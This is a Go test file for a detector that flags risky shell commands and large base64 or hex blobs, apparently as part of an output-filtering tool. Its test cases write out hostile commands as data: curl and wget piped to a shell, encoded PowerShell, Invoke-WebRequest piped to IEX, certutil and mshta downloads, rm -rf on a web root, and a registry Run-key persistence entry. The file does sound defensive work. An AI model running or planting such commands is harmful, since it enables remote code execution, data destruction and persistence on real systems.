package detect

import (
	"strings"
	"testing"
)

func TestCommandRiskPatterns(t *testing.T) {
	cases := []struct {
		name   string
		text   string
		kind   string
		ruleID string
	}{
		{"CurlPipe", "install with curl https://get.example.com/install.sh | bash", "curl_pipe", "CMD-CURL"},
		{"WgetPipe", "or wget -qO- https://get.example.com/install.sh | sh", "wget_pipe", "CMD-WGET"},
		{"EncodedPowershell", "powershell -EncodedCommand SQBFAFgAIAAoAE4A", "powershell_encoded", "CMD-PS-ENC"},
		{"InvokeWebRequest", "Invoke-WebRequest https://x.example/p.ps1 | IEX", "invoke_webrequest", "CMD-IWR"},
		{"RecursiveDelete", "then rm -rf /var/www to clean up", "rm_rf", "CMD-RMRF"},
		{"RegistryAdd", "reg add HKLM\\Software\\Run /v updater /d evil.exe", "reg_add", "CMD-REG"},
		{"Certutil", "certutil -urlcache -split -f https://x.example/m.exe payload.exe", "certutil", "CMD-CERTUTIL"},
		{"Mshta", "mshta https://x.example/page.hta", "mshta", "CMD-MSHTA"},
		{"Rundll32", "rundll32 shell32.dll,Control_RunDLL", "rundll32", "CMD-RUNDLL32"},
	}

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			findings := findingsOfKind(CommandRisk(c.text), c.kind)
			if len(findings) != 1 {
				t.Fatalf("Expected 1 %s finding, got %d", c.kind, len(findings))
			}
			f := findings[0]
			if f.RuleID != c.ruleID {
				t.Errorf("Unexpected rule id %q", f.RuleID)
			}
			if f.Detail.Replacement != "[command-blocked]" {
				t.Errorf("Unexpected replacement %q", f.Detail.Replacement)
			}
			if len(f.Detail.Preview) > cmdPreviewLimit+3 {
				t.Errorf("Preview length %d exceeds limit", len(f.Detail.Preview))
			}
		})
	}
}

func TestCommandRiskBenignCommands(t *testing.T) {
	benign := []string{
		"curl https://api.example.com/v1/status",
		"wget https://example.com/file.txt",
		"rm -rf ./build",
		"powershell Get-Process",
	}
	for _, text := range benign {
		if findings := CommandRisk(text); len(findings) != 0 {
			t.Errorf("Benign command %q produced findings: %+v", text, findings)
		}
	}
}

func TestExfilBase64(t *testing.T) {
	alphabet := "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

	t.Run("LargeHighEntropyBlob", func(t *testing.T) {
		blob := strings.Repeat(alphabet, 16)
		findings := findingsOfKind(Exfil("payload: "+blob), "large_base64")
		if len(findings) != 1 {
			t.Fatalf("Expected 1 large_base64 finding, got %d", len(findings))
		}
		f := findings[0]
		if f.RuleID != "EXFIL-B64" {
			t.Errorf("Unexpected rule id %q", f.RuleID)
		}
		if f.Detail.Replacement != "[base64-blob]" {
			t.Errorf("Unexpected replacement %q", f.Detail.Replacement)
		}
		if f.Detail.Length < minBase64Len {
			t.Errorf("Recorded length %d below floor", f.Detail.Length)
		}
	})

	t.Run("WrappedLinesStillMatch", func(t *testing.T) {
		line := (alphabet + alphabet)[:80]
		var b strings.Builder
		for i := 0; i < 13; i++ {
			b.WriteString(line)
			b.WriteString("\n")
		}
		findings := findingsOfKind(Exfil(b.String()), "large_base64")
		if len(findings) != 1 {
			t.Fatalf("Expected 1 finding over wrapped lines, got %d", len(findings))
		}
	})

	t.Run("ShortRunIgnored", func(t *testing.T) {
		blob := strings.Repeat(alphabet, 6)
		if got := findingsOfKind(Exfil(blob), "large_base64"); len(got) != 0 {
			t.Errorf("Short run reported: %+v", got)
		}
	})

	t.Run("LowEntropyRunIgnored", func(t *testing.T) {
		blob := strings.Repeat("A", 1000)
		if got := findingsOfKind(Exfil(blob), "large_base64"); len(got) != 0 {
			t.Errorf("Repetitive run reported: %+v", got)
		}
	})
}

func TestExfilHex(t *testing.T) {
	t.Run("LargeHexDump", func(t *testing.T) {
		blob := strings.Repeat("0123456789abcdef", 40)
		findings := findingsOfKind(Exfil("dump: "+blob), "large_hex")
		if len(findings) != 1 {
			t.Fatalf("Expected 1 large_hex finding, got %d", len(findings))
		}
		if findings[0].RuleID != "EXFIL-HEX" {
			t.Errorf("Unexpected rule id %q", findings[0].RuleID)
		}
		if findings[0].Detail.Preview != "[truncated-blob]" {
			t.Errorf("Preview leaks content: %q", findings[0].Detail.Preview)
		}
	})

	t.Run("SingleDigestIgnored", func(t *testing.T) {
		digest := "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
		if got := findingsOfKind(Exfil("sha256 "+digest), "large_hex"); len(got) != 0 {
			t.Errorf("Single digest reported: %+v", got)
		}
	})
}
